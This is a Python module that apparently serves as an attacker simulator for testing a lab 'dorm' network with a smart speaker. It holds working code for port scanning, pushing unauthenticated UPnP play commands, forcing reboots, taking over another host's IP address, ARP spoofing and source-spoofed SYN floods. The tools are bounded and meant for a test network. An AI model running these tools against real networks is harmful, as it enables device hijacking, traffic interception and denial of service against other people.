"""An intruder's kit: what somebody in the same network would try. For tests and the demo, in a dorm of our own only.

`python -m dorm.intruder TOOL ...` prints one JSON object. Every tool is bounded in time and in what it sends. Exit
statuses: README.md, "Scripts".
"""

import argparse
import asyncio
import contextlib
import http.client
import json
import os
import random
import re
import socket
import struct
import subprocess
import sys
import time
from collections.abc import Callable
from typing import Any

from dorm.arguments import ipv4_address
from dorm.speaker import interface
from dorm.topology import PERSON_IF, SPEAKER_PORT

Result = dict[str, Any]
SSDP = ("239.255.255.250", 1900)
ETH_P_ALL = 0x0003
ETH_P_ARP = 0x0806
ETH_P_IP = 0x0800
MAX_PACKETS = 100_000  # of any flood
LONGEST_S = 600.0  # for one answer, or one listening
MOST_AT_ONCE = 4000  # connections; each is a file descriptor
AGENT = "intruder"  # how the speaker may tell our requests from others' that come by way of the bridge

SEARCH = 'M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: "ssdp:discover"\r\nMX: 1\r\nST: {target}\r\n\r\n'
SOAP = (
    '<?xml version="1.0"?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" '
    's:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"><s:Body>'
    '<u:{action} xmlns:u="urn:schemas-upnp-org:service:AVTransport:1">{arguments}</u:{action}></s:Body></s:Envelope>'
)


def discover(target: str | None, seconds: float) -> Result:
    """Searches by SSDP (to the group, and to `target` itself), and listens for answers and for announcements."""
    group = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    group.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    group.bind(("", SSDP[1]))
    index = socket.if_nametoindex(PERSON_IF)
    group.setsockopt(
        socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, struct.pack("4s4si", socket.inet_aton(SSDP[0]), bytes(4), index)
    )
    search = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    search.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, struct.pack("4s4si", bytes(4), bytes(4), index))
    search.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_LOOP, 0)
    for what in ("ssdp:all", "urn:schemas-upnp-org:device:ZonePlayer:1", "upnp:rootdevice"):
        data = SEARCH.format(target=what).encode()
        search.sendto(data, SSDP)
        if target:
            search.sendto(data, (target, SSDP[1]))
    answers: list[Result] = []
    announcements: list[Result] = []
    until = time.monotonic() + seconds
    while (left := until - time.monotonic()) > 0:
        for sock, found in ((search, answers), (group, announcements)):
            sock.settimeout(min(left, 0.05))
            try:
                data, (peer, _) = sock.recvfrom(2048)
            except (TimeoutError, ConnectionError):
                continue
            if not data.startswith(b"M-SEARCH"):
                found.append({"from": peer, "first": data.split(b"\r\n")[0].decode(errors="replace")})
    return {"answers": answers, "announcements": announcements}


async def _connect(ip: str, port: int, timeout_s: float) -> str:
    try:
        _, writer = await asyncio.wait_for(asyncio.open_connection(ip, port), timeout_s)
    except TimeoutError:
        return "silent"
    except ConnectionRefusedError:
        return "refused"
    except OSError as error:
        return os.strerror(error.errno).lower() if error.errno else "failed"
    writer.transport.abort()
    return "open"


async def scan(ip: str, ports: list[int], timeout_s: float, at_once: int) -> Result:
    """Connects to each TCP port. Lists the open ones, counts the outcomes (silent, refused, ...)."""
    gate = asyncio.Semaphore(at_once)
    outcomes: dict[int, str] = {}

    async def one(port: int) -> None:
        async with gate:
            outcomes[port] = await _connect(ip, port, timeout_s)

    await asyncio.gather(*(one(port) for port in ports))
    counts: dict[str, int] = {}
    for outcome in outcomes.values():
        counts[outcome] = counts.get(outcome, 0) + 1
    return {
        "tried": len(ports),
        "open": sorted(port for port, outcome in outcomes.items() if outcome == "open"),
        "counts": counts,
    }


def udp(ip: str, ports: list[int], seconds: float) -> Result:
    """Sends a datagram to each UDP port, and listens for answers; ICMP errors are answers too."""
    socks: dict[int, socket.socket] = {}
    for port in ports:
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sock.connect((ip, port))
        sock.setblocking(False)
        with contextlib.suppress(OSError):
            sock.send(SEARCH.format(target="ssdp:all").encode())
        socks[port] = sock
    answered: list[int] = []
    refused: list[int] = []
    until = time.monotonic() + seconds
    while socks and time.monotonic() < until:
        for port, sock in list(socks.items()):
            try:
                sock.recv(2048)
                answered.append(port)
            except BlockingIOError:
                continue
            except OSError:
                refused.append(port)
            sock.close()
            del socks[port]
        time.sleep(0.02)
    return {"tried": len(ports), "answered": sorted(answered), "refused": sorted(refused)}


def _request(
    ip: str, method: str, path: str, timeout_s: float, body: str = "", headers: Result | None = None
) -> Result:
    connection = http.client.HTTPConnection(ip, SPEAKER_PORT, timeout=timeout_s)
    try:
        connection.request(method, path, body.encode() or None, {"User-Agent": AGENT, **(headers or {})})
        answer = connection.getresponse()
        return {"reached": True, "status": answer.status, "bytes": len(answer.read())}
    except (OSError, http.client.HTTPException) as error:
        return {"reached": False, "why": str(error) or type(error).__name__}
    finally:
        connection.close()


def push(ip: str, uri: str, timeout_s: float) -> Result:
    """Tries to make the speaker play `uri`: SetAVTransportURI and Play, bare SOAP."""
    steps = {
        "SetAVTransportURI": f"<InstanceID>0</InstanceID><CurrentURI>{uri}</CurrentURI><CurrentURIMetaData/>",
        "Play": "<InstanceID>0</InstanceID><Speed>1</Speed>",
    }
    result: Result = {}
    for action, arguments in steps.items():
        headers = {
            "Content-Type": 'text/xml; charset="utf-8"',
            "SOAPACTION": f'"urn:schemas-upnp-org:service:AVTransport:1#{action}"',
        }
        body = SOAP.format(action=action, arguments=arguments)
        result = _request(ip, "POST", "/MediaRenderer/AVTransport/Control", timeout_s, body, headers)
        if not result["reached"] or result["status"] != 200:
            break
    return result


def reboot(ip: str, timeout_s: float) -> Result:
    """Tries GET /reboot."""
    return _request(ip, "GET", "/reboot", timeout_s)


def get(ip: str, path: str, timeout_s: float) -> Result:
    """Tries to GET a page from port 1400."""
    return _request(ip, "GET", path, timeout_s)


def take(address: str, prefix: int) -> Result:
    """Takes somebody's IP address for our own network interface, beside our own."""
    _ip("addr", "add", f"{address}/{prefix}", "dev", PERSON_IF)
    return {"address": address}


def give_back(address: str, prefix: int) -> Result:
    """Gives it back."""
    _ip("addr", "del", f"{address}/{prefix}", "dev", PERSON_IF)
    return {"address": address}


def _ip(*words: str) -> None:
    done = subprocess.run(["ip", *words], stderr=subprocess.PIPE, text=True, check=False)
    if done.returncode:
        raise OSError(done.returncode, done.stderr.strip())


def borrowed(address: str, prefix: int, ip: str, uri: str, timeout_s: float) -> Result:
    """With somebody's IP address (and our own MAC): connects, pushes, reboots. Gives the address back."""
    _ip("addr", "add", f"{address}/{prefix}", "dev", PERSON_IF)
    # Everything to the speaker leaves with the borrowed address.
    _ip("route", "replace", f"{ip}/32", "dev", PERSON_IF, "src", address)
    try:
        arp_spoof(address, "ff:ff:ff:ff:ff:ff", ip, 3, 0.05)
        return {
            "scan": asyncio.run(scan(ip, [SPEAKER_PORT, 1443], timeout_s, 2)),
            "push": push(ip, uri, timeout_s),
            "reboot": reboot(ip, timeout_s),
        }
    finally:
        _ip("route", "del", f"{ip}/32", "dev", PERSON_IF)
        _ip("addr", "del", f"{address}/{prefix}", "dev", PERSON_IF)


def arp_spoof(claimed: str, to_mac: str, target: str, count: int, interval_s: float) -> Result:
    """Tells by unasked ARP replies that `claimed` is at our MAC."""
    own = interface.hardware_address(PERSON_IF)
    to = bytes.fromhex(to_mac.replace(":", ""))
    frame = (
        to
        + own
        + struct.pack("!HHHBBH", ETH_P_ARP, 1, ETH_P_IP, 6, 4, 2)
        + own
        + socket.inet_aton(claimed)
        + to
        + socket.inet_aton(target)
    )
    with _raw() as sock:
        for _ in range(min(count, MAX_PACKETS)):
            sock.send(frame)
            time.sleep(interval_s)
    return {"sent": count}


def _raw() -> socket.socket:
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    sock.bind((PERSON_IF, 0))
    return sock


def _checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn_frame(to_mac: bytes, from_mac: bytes, source: str, ip: str, sport: int, port: int, seq: int) -> bytes:
    """One TCP SYN, from Ethernet header to end (RFC 9293, 3.1)."""
    addresses = socket.inet_aton(source) + socket.inet_aton(ip)
    tcp = struct.pack("!HHIIBBHHH", sport, port, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
    tcp_sum = _checksum(addresses + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp)) + tcp)
    tcp = tcp[:16] + struct.pack("!H", tcp_sum) + tcp[18:]
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), seq & 0xFFFF, 0x4000, 64, socket.IPPROTO_TCP, 0) + addresses
    head = head[:10] + struct.pack("!H", _checksum(head)) + head[12:]
    return to_mac + from_mac + struct.pack("!H", ETH_P_IP) + head + tcp


def syn_flood(ip: str, to_mac: str, port: int, count: int, per_s: int, spoof: str | None, seed: int) -> Result:
    """Sends `count` SYNs at `per_s`: from our address, or each from a random one of the /24 of `spoof`."""
    rng = random.Random(seed)
    own = interface.address(PERSON_IF) or "0.0.0.0"
    mac = interface.hardware_address(PERSON_IF)
    to = bytes.fromhex(to_mac.replace(":", ""))
    count = min(count, MAX_PACKETS)
    began = time.monotonic()
    with _raw() as sock:
        for number in range(count):
            source = own if spoof is None else f"{spoof.rpartition('.')[0]}.{rng.randrange(2, 254)}"
            frame = syn_frame(to, mac, source, ip, rng.randrange(1024, 65536), port, rng.getrandbits(32))
            while True:
                try:
                    sock.send(frame)
                    break
                except OSError:  # the queue is full
                    time.sleep(0.001)
            ahead = (number + 1) / per_s - (time.monotonic() - began)
            if ahead > 0.005:
                time.sleep(ahead)
    return {"sent": count, "seconds": round(time.monotonic() - began, 3)}


# --- what may be asked for; anything else is wrong usage --------------------------------------------------------------
def _port(text: str) -> int:
    if not re.fullmatch(r"[0-9]{1,5}", text) or not 0 < int(text) < 65536:
        raise argparse.ArgumentTypeError(f"{text!r} is no port: it would be 1 to 65535")
    return int(text)


def _ports(text: str) -> list[int]:
    """ "1400,1443,1-1024" """
    found: set[int] = set()
    for part in text.split(","):
        first, dash, last = part.partition("-")
        ports = range(_port(first), _port(last if dash else first) + 1)
        if not ports:
            raise argparse.ArgumentTypeError(f"{part!r} ends before it begins")
        found.update(ports)
    return sorted(found)


def _mac(text: str) -> str:
    if not re.fullmatch(r"[0-9a-fA-F]{2}(:[0-9a-fA-F]{2}){5}", text):
        raise argparse.ArgumentTypeError(f"{text!r} is no hardware address: it would look like 02:00:00:00:42:30")
    return text


def _within(least: float, most: float, kind: type[int] | type[float] = float) -> Callable[[str], float]:
    def parse(text: str) -> float:
        try:
            value = kind(text)
        except ValueError:
            value = kind(-1)
        if not least <= value <= most:
            raise argparse.ArgumentTypeError(f"{text!r} is not {least:g} to {most:g}")
        return value

    return parse


def _path(text: str) -> str:
    if not re.fullmatch(r"/[!-~]*", text):
        raise argparse.ArgumentTypeError(f"{text!r} is no path: it would look like /status")
    return text


def _parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(prog="python -m dorm.intruder", description=__doc__)
    tools = parser.add_subparsers(dest="tool", required=True)

    kinds: dict[str, Callable[[str], object]] = {
        **dict.fromkeys(("ip", "address", "claimed", "target", "spoof"), ipv4_address),
        **dict.fromkeys(("seconds", "timeout", "interval"), _within(0.01, LONGEST_S)),
        "ports": _ports,
        "port": _port,
        "to_mac": _mac,
        "uri": str,
        "path": _path,
        "prefix": _within(1, 32, int),
        "seed": int,
        "count": _within(1, MAX_PACKETS, int),
        "per_s": _within(1, MAX_PACKETS, int),
        "at_once": _within(1, MOST_AT_ONCE, int),
    }

    def tool(name: str, does: Callable[..., object], *arguments: str, **options: object) -> None:
        sub = tools.add_parser(name, help=does.__doc__, description=does.__doc__)
        for argument in arguments:
            sub.add_argument(argument, type=kinds[argument])
        for option, default in options.items():
            sub.add_argument(f"--{option.replace('_', '-')}", type=kinds[option], default=default)

    tool("discover", discover, target=None, seconds=2.0)
    tool("scan", scan, "ip", "ports", timeout=1.0, at_once=500)
    tool("udp", udp, "ip", "ports", seconds=1.0)
    tool("push", push, "ip", "uri", timeout=2.0)
    tool("reboot", reboot, "ip", timeout=2.0)
    tool("get", get, "ip", "path", timeout=2.0)
    tool("take", take, "address", prefix=22)
    tool("give-back", give_back, "address", prefix=22)
    tool("borrowed", borrowed, "address", "ip", "uri", prefix=22, timeout=2.0)
    tool("arp-spoof", arp_spoof, "claimed", "to_mac", "target", count=10, interval=0.05)
    tool("syn-flood", syn_flood, "ip", "to_mac", port=SPEAKER_PORT, count=1000, per_s=2000, spoof=None, seed=1)
    return parser


def run(arguments: argparse.Namespace) -> Result:
    a = arguments
    match a.tool:
        case "discover":
            return discover(a.target, a.seconds)
        case "scan":
            return asyncio.run(scan(a.ip, a.ports, a.timeout, a.at_once))
        case "udp":
            return udp(a.ip, a.ports, a.seconds)
        case "push":
            return push(a.ip, a.uri, a.timeout)
        case "reboot":
            return reboot(a.ip, a.timeout)
        case "get":
            return get(a.ip, a.path, a.timeout)
        case "take":
            return take(a.address, a.prefix)
        case "give-back":
            return give_back(a.address, a.prefix)
        case "borrowed":
            return borrowed(a.address, a.prefix, a.ip, a.uri, a.timeout)
        case "arp-spoof":
            return arp_spoof(a.claimed, a.to_mac, a.target, a.count, a.interval)
        case _:
            return syn_flood(a.ip, a.to_mac, a.port, a.count, a.per_s, a.spoof, a.seed)


def main() -> int:
    arguments = _parser().parse_args()
    try:
        print(json.dumps(run(arguments)))
    except KeyboardInterrupt:
        return 130
    except OSError as error:
        why = error.strerror or error
        print(
            f"error: {arguments.tool}: {why}. It is for a machine of the dorm: `speakeasy dorm shell flatmate`.",
            file=sys.stderr,
        )
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
